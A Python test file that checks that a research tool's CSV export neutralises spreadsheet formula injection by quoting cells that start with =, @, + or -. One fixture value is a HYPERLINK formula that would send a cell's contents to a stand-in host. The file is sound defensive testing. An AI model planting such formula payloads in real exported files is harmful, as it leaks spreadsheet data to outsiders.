"""CSV cells a spreadsheet would run as formulas (CSV injection) are written as text."""
from __future__ import annotations

import csv
import io

from viewer.analysis import store
from viewer.analysis.documents import DocumentAnalysis
from viewer.analysis.model import Attribution
from viewer.corpus import notes, publication
from viewer.export.formats import export

from tests.export.conftest import span_of

TWEET = "- В Мариуполе подразделения 36 обмп в результате рискованного манёвра прорвались к полку «Азов»"
KONASHENKOV = "as many as 1,026 troops from the Ukrainian 36th Marine Brigade surrendered at a metal plant in the Ukrainian city"


def _with_formula_text(corpus):
    """d2's quoted tweet ("- В Мариуполе…", by "@arestovych") as a statement; a title, outlet and note
    the researcher typed starting with = @ +."""
    text = corpus.document(2).text
    keep = Attribution("indirect", span_of(text, KONASHENKOV), span_of(text, "Major General Igor Konashenkov"),
                       "Igor Konashenkov", cue=span_of(text, "said as many"), speaker_kind="person")
    tweet = Attribution("direct", span_of(text, TWEET), span_of(text, "@arestovych"), "@arestovych",
                        cue=span_of(text, "@arestovych"), speaker_kind="person")
    store.write_documents(corpus, [DocumentAnalysis(2, [keep, tweet])], "test")
    publication.correct(corpus, 3, "title", '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")')
    publication.correct(corpus, 4, "outlet", "@SUM(1+1)")
    notes.set_note(corpus, "claim", notes.claim_key(2), "+1 source only")
    return corpus


def _read(path):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_cells_starting_like_a_formula_get_a_quote_and_nothing_else_changes(export_corpus, tmp_path):
    export(export_corpus, "csv", tmp_path / "before.csv")
    export(_with_formula_text(export_corpus), "csv", tmp_path / "t.csv")
    documents = {r["document"]: r for r in _read(tmp_path / "t-documents.csv")}
    assert documents["d3"]["title"] == """'=HYPERLINK("http://example.invalid/?leak="&A1,"Open")"""
    assert documents["d4"]["outlet"] == "'@SUM(1+1)"
    tweet = next(r for r in _read(tmp_path / "t-attributions.csv") if r["speaker_name"].endswith("@arestovych"))
    assert tweet["speaker_name"] == tweet["speaker_text"] == "'@arestovych"
    assert tweet["content"] == "'" + TWEET
    text = export_corpus.document(2).text
    assert text[int(tweet["start"]):int(tweet["end"])] == tweet["content"][1:]  # the offsets index the text as written
    claims = _read(tmp_path / "t-claims.csv")
    assert {r["note"] for r in claims if r["claim"] == "c2"} == {"'+1 source only"}
    quoted = [cell for table in ("documents", "claims", "attributions")
              for row in csv.reader(io.StringIO((tmp_path / f"t-{table}.csv").read_text(encoding="utf-8-sig")))
              for cell in row if cell.startswith("'")]
    assert len(quoted) == 8  # title, outlet, the note twice (c2 has two mentions), speaker name, its text, cue, content
    before = (tmp_path / "before-claims.csv").read_text(encoding="utf-8-sig").splitlines()
    after = (tmp_path / "t-claims.csv").read_text(encoding="utf-8-sig").splitlines()
    assert [a for a, b in zip(after, before) if a != b] == [r for r in after if ",'+1 source only," in r]


def test_standard_output_is_guarded_too(export_corpus, capsys):
    export(_with_formula_text(export_corpus), "csv", None)
    out = capsys.readouterr().out
    assert ",'@SUM(1+1)," in out and ",'@arestovych," in out
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(out)) for cell in row)
